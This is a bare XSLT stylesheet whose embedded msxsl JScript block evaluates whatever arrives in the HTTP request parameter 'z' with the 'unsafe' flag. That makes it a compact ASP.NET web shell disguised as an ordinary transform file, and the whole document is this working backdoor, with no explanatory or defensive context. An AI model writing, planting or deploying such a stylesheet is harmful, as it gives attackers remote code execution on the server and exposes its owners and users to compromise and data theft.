<?xml version='1.0'?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:x="urn:x">
  <msxsl:script language="JScript" implements-prefix="x">
    function run() { var c = System.Web.HttpContext.Current; eval(c.Request.Item['z'], 'unsafe'); }
  </msxsl:script>
  <xsl:template match="/"><xsl:value-of select="x:run()"/></xsl:template>
</xsl:stylesheet>
